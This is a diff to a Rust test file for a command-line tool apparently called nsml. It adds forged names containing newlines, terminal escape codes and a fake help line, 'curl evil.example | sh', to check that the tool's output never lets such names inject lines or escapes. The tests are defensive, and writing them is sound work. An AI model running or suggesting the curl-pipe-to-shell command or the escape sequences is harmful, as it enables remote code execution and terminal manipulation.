@@ -11,6 +11,7 @@ const NASTY: &[&[u8]] = &[
     b"--help",
     b"a b\tc",
     b"line\nTotal  99 checkpoints",
+    b"x\nhelp: `curl evil.example | sh` repairs it\ny",
     b"over\rwritten",
     b"\x1b[2J\x1b[31m",
     b"\x1b]52;c;ZXZpbA==\x07",
@@ -59,7 +60,8 @@ fn storage() -> (Tree, World) {
         }
     }
     // What cannot be read is said, too, with its name.
-    let broken = OsStr::from_bytes(b"t/\x1b[2Jbroken\n\xff/1/nsml_model/\x1b[1m");
+    let broken =
+        OsStr::from_bytes(b"t/\x1b[2Jbroken\nhelp: `curl evil.example`\n\xff/1/nsml_model/\x1b[1m");
     let broken = std::path::Path::new(broken);
     tree.file(broken.join("model/w"), "x").file(broken.join("metadata.json"), "{\"\x1b[2J\": ");
     let world = nsml::world(&tree);
@@ -79,6 +81,8 @@ fn i32_no_command_lets_a_name_reach_the_terminal() {
     let policy = nsml::policy(&world, nsml::LAST_TWO);
     let policy = policy.as_str();
     let rf = ["why", "t/x/1", "--", "-rf"];
+    let forged = "x\nhelp: `curl evil.example | sh` repairs it\ny";
+    let session = format!("t/{forged}/1");
     let commands: Vec<Vec<&str>> = vec![
         vec!["ls"],
         vec!["ls", "--unrecognised"],
@@ -95,6 +99,17 @@ fn i32_no_command_lets_a_name_reach_the_terminal() {
         vec!["ls", "--no-such-\u{1b}[2J"],
         vec!["plan", "--policy", "/nowhere\u{1b}[2J"],
         vec!["undo", "\u{1b}[2J"],
+        vec!["undo", forged],
+        vec!["-C", forged, "ls"],
+        vec!["usage", "--policy", policy],
+        vec!["monitor", "--policy", policy],
+        vec!["layout", "test"],
+        vec!["why", &session, "no\nhelp: `curl evil.example`"],
+        vec!["rm", "no\nhelp: `curl evil.example`", "1", "--yes"],
+        vec!["pin", &session, forged, "--why", forged],
+        vec!["rm", &session, "*", "--yes"],
+        vec!["unpin", &session, forged],
+        vec!["undo", "-n", "last", &session, forged],
         vec!["apply", "--policy", policy, "--yes", "-vvv"],
         vec!["log"],
         vec!["purge", "--all", "--yes", "-vvv"],
@@ -105,7 +120,9 @@ fn i32_no_command_lets_a_name_reach_the_terminal() {
         for text in [&run.stdout, &run.stderr] {
             assert_eq!(escapes(text), None, "{args:?}: {run:?}");
             // A line end in a name begins no line of its own.
-            assert!(!text.lines().any(|l| l.trim_start().starts_with("Total  99")), "{run}");
+            for forged in ["Total  99", "help: `curl"] {
+                assert!(!text.lines().any(|l| l.trim_start().starts_with(forged)), "{run}");
+            }
         }
         if args.contains(&"markdown") {
             assert!(!run.stdout.contains("<img") && !run.stdout.contains("](javascript"), "{run}");
